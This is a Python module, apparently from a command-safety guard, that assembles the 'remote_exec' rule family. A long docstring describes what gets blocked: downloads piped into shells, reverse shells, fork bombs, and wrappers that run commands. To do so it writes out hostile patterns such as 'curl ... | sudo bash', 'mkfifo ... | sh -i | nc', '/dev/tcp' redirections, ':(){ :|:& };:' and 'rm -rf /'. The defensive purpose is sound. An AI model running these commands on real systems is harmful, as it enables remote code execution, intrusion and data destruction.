"""Rule family ``remote_exec``: code run from elsewhere, reverse shells, fork bombs, and the
wrappers that run a command or a shell string (``su -c``, ``ssh``, ``watch``, ``flock``,
``script``), interpreters' inline code and program text made at run time.

Rules (the rule id leads the block reason):

- ``rce``: output of a downloader (``curl``, ``wget``, ``fetch``, ``aria2c``, httpie...)
  piped into a shell or an interpreter that reads its program from stdin
  (``curl ... | sudo bash``, ``wget -O- ... | python3 -``), or used as program text
  (``bash -c "$(curl ...)"``, ``sh <(curl ...)``, ``source <(curl ...)``,
  ``python -c "$(curl ...)"``, ``bash <<< "$(curl ...)"``, ``eval "$(wget ...)"``).
  Downloading to a file (``curl -o x.sh``), piping into a filter (``| jq .``,
  ``| python -m json.tool``, ``| python -c '...json...'``) and running *local* text
  (``cat script.sh | bash``) are allowed: the guard judges code it can see, and a local
  script is as visible to the reviewer as the command itself.  ``curl -o x.sh URL &&
  bash x.sh`` is allowed too (files are not tracked between commands).
- ``reverse-shell``: ``nc``/``ncat``/``netcat`` with ``-e``/``-c``/``--exec``/
  ``--sh-exec``; any redirection to ``/dev/tcp/`` or ``/dev/udp/``; ``socat`` joining a
  network address to ``EXEC:``/``SYSTEM:``; a pipeline in which a shell reads commands
  from a network tool (the ``mkfifo ... | sh -i | nc ...`` pattern); socket-plus-spawn
  one-liners in ``python -c``/``perl -e``/``php -r``/``ruby -e``/``node -e``; ``awk``
  programs using ``/inet/tcp``.
- ``fork-bomb``: a function whose body runs itself in a pipeline or in the background
  (``:(){ :|:& };:`` under any name); ``fork while fork``-style interpreter one-liners.
- ``dynamic-code``: program text a shell or interpreter will run that the guard cannot
  read, because it is made at run time.  The text of ``sh -c``, ``eval``, a here-string
  or a process substitution fed to a shell, or ``python -c``, that is wholly a variable or
  a command substitution whose value is unknown (``eval "$X"``, ``sh -c "$(cat f)"``,
  ``source <(cat f)``); a command name inside such text that is (``bash -c "$CMD -x"``);
  text piped into a shell or interpreter through a decoder or text transformer whose
  output the guard cannot compute (``base64 -d payload | sh``, ``xxd -r hex.txt | bash``,
  ``cat x | sed ... | sh``, ``python3 -c 'print(...)' | sh``, ``echo ... | head | sh``).
  Variables and substitutions as *arguments* in such text are data (``bash -c "cd $DIR
  && make"``); local text is visible to a reviewer and allowed (``cat install.sh |
  bash``, ``python3 gen.py | sh``).  ``eval "$(tool ...)"`` of the shell-setup tools in
  :data:`_SETUP_TOOLS` (``ssh-agent``, ``pyenv init``, ``direnv hook``, ``brew shellenv``,
  completion scripts...) is trusted.  On the command line itself, a command name known
  only at run time (``$CMD -rf /``, ``"$EDITOR" notes.txt``) is judged as each of
  :data:`STAND_INS` (``rm``, ``chmod``, ``dd``, ``sh``, ``cat``...) and refused when one
  of them would be refused with those arguments; one that runs the words of a download
  (``$(curl ...)``, ``X=$(curl ...); $X``, rule ``rce``) or of a decoder is refused.

Programs that run a command or a shell string hand it to the shared analysis, so the
rule that fires is the inner command's (``tmux new -d 'rm -rf /'`` is ``fs-destruction``):
``su``/``runuser -c``, ``sg``, ``ssh host CMD`` and ``ssh``/``scp -o ProxyCommand=``,
``watch``, ``flock``, ``script -c``, ``tmux`` (``-c``, ``new-session``, ``new-window``,
``split-window``, ``respawn-*``, ``run-shell``, ``display-popup``, ``if-shell``, and the
keys of ``send-keys`` as typed text), ``screen`` (its command, ``-X stuff``, ``-X
exec``), ``parallel`` (each ``:::`` value in ``{}``, or appended; every value, within the
analysis budget), ``at``/``batch`` and ``crontab`` (the job text on stdin; crontab lines lose their
schedule fields), ``rsync -e``, ``tar --checkpoint-action=exec=``/``--to-command``/
``-I``/``--info-script``, ``vim``/``vi``/``nvim``/``ex -c``/``+``/``--cmd`` with ``!cmd``,
``r !cmd``, ``system('cmd')`` or ``terminal``, ``less +'!cmd'``, ``gdb -ex 'shell cmd'``,
``sqlite3`` ``.shell``/``.system`` (arguments, ``-cmd`` and stdin), ``nodemon
--exec``, ``expect -c`` (each ``spawn``ed command), ``hyperfine``/``concurrently``
(each operand, and ``hyperfine --prepare``...), ``start-stop-daemon --start --exec``,
``ip netns exec``, ``git -c`` settings
whose value is a command (``core.sshCommand``, ``core.pager``, ``core.editor``,
``credential.helper=!``, ``diff.*.textconv``...), variables whose value programs run
(``GIT_SSH_COMMAND``, ``GIT_PAGER``, ``PAGER``, ``EDITOR``, ``VISUAL``, ``LESSOPEN``...,
set on the command or earlier in the line; and the prompt strings ``PS0``-``PS4`` and
``BASH_ENV``/``ENV``, whose substitutions bash runs), and ``>(sh)`` process substitutions a
command writes into (``echo ... > >(sh)``, ``... | tee >(bash)``); a download written
into one (``curl URL > >(bash)``, ``wget -O- URL | tee >(sh)``) is ``rce``, as a pipe.
``sh -c SCRIPT NAME ARGS`` gives the script its positional parameters.  ``zip -TT``/
``--unzip-command``, ``man -P``/``-H`` and ``more +!`` run their value; the commands
``awk``, ``sed`` and ``make`` run in their own syntax are judged too (:mod:`.languages`).
A download run by a text-mode browser (``lynx -source``, ``w3m -dump_source``) or written
through ``curl -o >(sh)`` is ``rce``; a shell reading a named pipe that a network tool
in its pipeline writes (``mknod F p; sh -i < F | nc HOST PORT > F``) is
``reverse-shell``.

The family is a folder: :mod:`.code` (``rce``, ``dynamic-code`` and the reverse-shell
pipelines: program text a shell or an interpreter runs, downloads, inline programs,
``>(sh)`` sinks, crontab text), :mod:`.languages` (``awk``, ``sed``, ``make``),
:mod:`.fork_bomb`, :mod:`.network` (``nc``, ``socat``),
:mod:`.runners` (commands that run a command or a shell string: ``su``, ``ssh``,
``watch``, ``tmux``, ``screen``, ``parallel``...) and :mod:`.command_options` (options,
settings and variables whose value is a command: ``rsync -e``, ``tar
--to-command``, editors, ``git -c``, ``GIT_SSH_COMMAND``...); this module assembles
their tables.
"""

from __future__ import annotations

from ..run import FunctionRule, PipelineRule, Rule
from .code import pipeline_fifo, pipeline_rules, pipeline_sinks, rule_code, rule_process_sinks
from .command_options import (
    EDITORS,
    rule_command_vars,
    rule_editor,
    rule_gdb,
    rule_git_commands,
    rule_less,
    rule_man,
    rule_rsync,
    rule_scp,
    rule_tar,
    rule_zip,
)
from .fork_bomb import fork_bomb
from .languages import pipeline_input_code
from .network import rule_netcat, rule_socat
from .runners import (
    rule_expect,
    rule_flock,
    rule_ip,
    rule_nix_shell,
    rule_nodemon,
    rule_parallel,
    rule_screen,
    rule_script,
    rule_sg,
    rule_shell_strings,
    rule_ssh,
    rule_start_stop_daemon,
    rule_su,
    rule_tmux,
    rule_vagrant,
    rule_watch,
)

RULES: dict[str, tuple[Rule, ...]] = {
    "scp": (rule_scp,),
    "sftp": (rule_scp,),
    "rsync": (rule_rsync,),
    "tar": (rule_tar,),
    **dict.fromkeys(EDITORS, (rule_editor,)),
    "less": (rule_less,),
    "more": (rule_less,),
    "most": (rule_less,),
    "man": (rule_man,),
    "zip": (rule_zip,),
    "gdb": (rule_gdb,),
    "sg": (rule_sg,),
    "nix-shell": (rule_nix_shell,),
    "vagrant": (rule_vagrant,),
    "tmux": (rule_tmux,),
    "screen": (rule_screen,),
    "parallel": (rule_parallel,),
    "git": (rule_git_commands,),
    "nc": (rule_netcat,),
    "socat": (rule_socat,),
    "su": (rule_su,),
    "ssh": (rule_ssh,),
    "watch": (rule_watch,),
    "flock": (rule_flock,),
    "script": (rule_script,),
    "nodemon": (rule_nodemon,),
    "expect": (rule_expect,),
    "hyperfine": (rule_shell_strings,),
    "concurrently": (rule_shell_strings,),
    "start-stop-daemon": (rule_start_stop_daemon,),
    "ip": (rule_ip,),
}
GENERIC: tuple[Rule, ...] = (rule_code, rule_command_vars, rule_process_sinks)
PIPELINES: tuple[PipelineRule, ...] = (
    pipeline_rules,
    pipeline_sinks,
    pipeline_fifo,
    pipeline_input_code,
)
FUNCTIONS: tuple[FunctionRule, ...] = (fork_bomb,)
